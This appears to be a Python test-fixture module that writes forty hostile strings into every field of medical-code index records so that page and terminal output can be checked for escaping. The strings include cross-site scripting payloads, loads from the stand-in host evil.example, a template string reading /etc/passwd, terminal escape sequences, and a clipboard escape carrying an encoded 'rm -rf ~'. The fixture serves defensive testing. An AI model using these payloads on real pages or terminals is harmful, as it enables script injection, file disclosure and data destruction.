"""Forty strings that do harm where a page or a terminal takes them for more than text, and how to find their marks."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

ESCAPES = {
    # What a browser would run or load
    "script": "<script>alert(1)</script>",
    "script closed early": "</title></textarea></script><script src=//evil.example/x.js></script>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "handler in an attribute": "\" onmouseover=\"alert(1)\" autofocus onfocus='alert(1)' x=\"",
    "attribute without quotes": "' onclick=alert(1) '",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "svg with a link": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "javascript link": "javascript:alert(1)",
    "javascript link, hidden": "\x01java\tscript\r:alert(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "address of another host": "//evil.example/%2e%2e/\\\\evil.example",
    "style": "</style><style>@import '//evil.example/x.css';*{background:url(javascript:alert(1))}",
    "form": '<form action="//evil.example"><input name=q><button formaction="javascript:alert(1)">',
    "base and refresh": '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "comment and CDATA": "--><!--><script>alert(1)</script><![CDATA[<script>alert(1)</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;&amp;lt;",
    "template of the server": "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}${7*7}<%= 7*7 %>#{7*7}",
    "format of Python": "%s%n%(x)s{0.__class__.__mro__}{hit!r:>99}",
    "JSON closed early": '"}],"total":0}</script>\\u003cscript\\u003e\\',
    "letters of UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # What a terminal would obey
    "colour": "\x1b[31;5mred\x1b[8mhidden",
    "clear the screen": "\x1b[2J\x1b[H\x1b[3J\x1bc",
    "move up and overwrite": "\x1b[1A\x1b[2Kgone\x1b[99D",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "answers of the terminal": "\x1b[6n\x1b[c\x1b[21t\x1bP$q\"p\x1b\\",
    "other screen and mouse": "\x1b[?1049h\x1b[?1000h\x1b(0lqk\x0e",
    "C1 controls": "\x9b31mred\x9d0;owned\x9c\x90q\x85next",
    "bell, NUL, delete": "a\x00b\x07c\x7fd\x05e",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "carriage return": "safe words\revil",
    "form feed and tabs": "a\x0bb\x0cc\td",
    "marks of rich": "[link=https://evil.example]x[/link] [/bold] [red] [[ :skull: \\[x]",
    # What turns or hides text
    "direction turned": "\u202eevil\u202d\u2066x\u2069\u200f\u200e\u061c",
    "line and paragraph ends": "a\u2028b\u2029c",
    "halves of a pair": "\ud83d and \udc00 \udc1b",
}  # fmt: skip
"""The strings by what they are."""

WORD = "Hostilium"
"""Stands in all fields beside them, so that every page is found."""

CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
"""What must reach neither page nor terminal: of all controls only the end of a line may."""


def record(id: str, text: str) -> dict[str, Any]:
    """A page with ``text`` in every field but its id and its system."""
    found = f"{WORD} {text}"
    return {
        "id": id, "system": "HCPCS", "code": f"H1 {text}", "descriptor": found, "name": found, "common_names": [found],
        "medical_terms": [found], "sections": [{"kind": "risks", "heading": found, "text": found}],
        "similar_codes": [{"system": text, "code": text, "descriptor": found, "url": text}], "source": text,
        "warnings": [text],
    }  # fmt: skip


def crawled(text: str) -> dict[str, str]:
    """A page whose source is ``text``."""
    return {"url": text, "text": f"{WORD} crawled"}


def write_escapes(path: Path) -> Path:
    """Two pages for each of the strings, the first ``escape:0`` on, and ``escape:none`` with plain words instead."""
    records = [record(f"escape:{number}", text) for number, text in enumerate(ESCAPES.values())]
    records += [record("escape:none", "plain words"), *map(crawled, ESCAPES.values())]
    path.write_text("\n".join(map(json.dumps, records)) + "\n")
    return path


def as_read(text: str) -> str:
    """``text`` as an index holds it: what UTF-8 or a string of C cannot hold is replaced."""
    return re.sub("[\0\ud800-\udfff]", "\ufffd", text)
